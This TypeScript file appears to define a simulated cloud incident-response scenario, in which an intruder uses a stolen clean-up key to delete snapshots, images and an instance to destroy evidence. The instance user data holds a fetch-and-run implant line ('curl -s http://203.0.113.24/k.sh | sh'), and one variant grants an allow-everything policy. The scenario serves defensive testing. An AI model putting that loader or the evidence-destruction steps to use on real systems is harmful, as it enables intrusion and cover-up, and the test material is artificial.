import { createBeacon } from "../attackers/beacon.ts";
import { createConsoleFlooder } from "../attackers/console-flooder.ts";
import { createSaboteur } from "../attackers/saboteur.ts";
import { createUser } from "../world/build-identity.ts";
import type { PolicyDocument } from "../world/identity.ts";
import { controllerEvent } from "./controller-event.ts";
import { OUTSIDE, type ScenarioDefinition, type Stage, type StageTools } from "./scenario.ts";
import { createGroup, createSurroundings, createWorkloadRole, launchWorkload } from "./surroundings.ts";
import { applyVariants } from "./variants.ts";
import { actor } from "./victim.ts";

/** What loads the implant at each start: it stands in the user data, and goes with the instance. */
const IMPLANT = "http://203.0.113.24/k.sh";

/** When he notices that his instance is silent. */
const NOTICES_AFTER_MS = 150_000;

/**
 * An intruder who holds more than the instance: a key of the account with which old snapshots and instances are cleaned up.
 * The containment of the instance does not reach it, and what it may delete is exactly what evidence is made of.
 */
export const evidenceSaboteur: ScenarioDefinition = {
  id: "evidence-saboteur",
  title: "An intruder who destroys the evidence with a stolen clean-up key",
  description:
    "A beacon on a build server. Its intruder also found the key of the job that cleans up the account: two minutes after the beacon falls silent he deletes every snapshot and image that the account owns and ends the instance, and his implant floods the serial console.",
  attackers: ["beacon", "saboteur", "console-flooder"],
  expected:
    "contained; of the evidence that is left what was locked, what lies in another account, and what is in the vault; the instance, where it is protected",
  suggestedApprovals: [],
  variants: ["account-administrator", "neighbour", "no-prepared-groups"],
  stage,
};

function stage(tools: StageTools): Stage {
  const { place, network, call, variants } = tools;
  const surroundings = createSurroundings(tools);
  const { profile } = createWorkloadRole(place);
  const group = createGroup(place, {
    vpcId: surroundings.vpc.id,
    name: "builds",
    description: "Build servers: the mirror only",
    rules: [{ egress: true, protocol: "tcp", port: 443, cidr: `${OUTSIDE.hijackedVendor}/32`, description: "mirror" }],
  });
  const { instance, primary } = launchWorkload(place, {
    name: "build-3",
    subnetId: surroundings.publicSubnet.id,
    group,
    profile,
    publicIp: "192.0.2.60",
    userData: `#!/bin/sh\ncurl -s ${IMPLANT} | sh\n`,
  });
  place.world.change(instance, () => {
    instance.consoleText = `[ 9120.441207] hidepid: module verification failed: signature and/or required key missing\r\n${instance.id} login: `;
  });
  const beacon = createBeacon({
    ...actor(tools, "beacon"),
    network,
    through: primary,
    outsideIp: OUTSIDE.hijackedVendor,
  });
  const isThorough = variants.has("account-administrator");
  const { session } = createUser(place, {
    name: isThorough ? "administrator" : "clean-up",
    inlinePolicies: { "clean-up": isThorough ? EVERYTHING : CLEAN_UP },
  });
  const saboteur = createSaboteur({
    ...actor(tools, "saboteur"),
    call,
    session,
    target: instance.id,
    isThorough,
    firstAfterMs: NOTICES_AFTER_MS,
  });
  const flooder = createConsoleFlooder({
    ...actor(tools, "console-flooder"),
    place,
    instance,
    firstAfterMs: NOTICES_AFTER_MS,
  });
  const victim = { instance, primary, group, profile, controllerIp: OUTSIDE.hijackedVendor };
  const others = applyVariants(tools, surroundings, victim);
  const event = controllerEvent(tools, victim, OUTSIDE.hijackedVendor);
  return { targets: [instance], attackers: [beacon, saboteur, flooder, ...others], events: [event] };
}

/** What a job needs that deletes what is old. */
const CLEAN_UP: PolicyDocument = {
  Version: "2012-10-17",
  Statement: [
    {
      Effect: "Allow",
      Action: ["ec2:Describe*", "ec2:DeleteSnapshot", "ec2:DeregisterImage", "ec2:TerminateInstances"],
      Resource: "*",
    },
  ],
};

const EVERYTHING: PolicyDocument = {
  Version: "2012-10-17",
  Statement: [{ Effect: "Allow", Action: "*", Resource: "*" }],
};
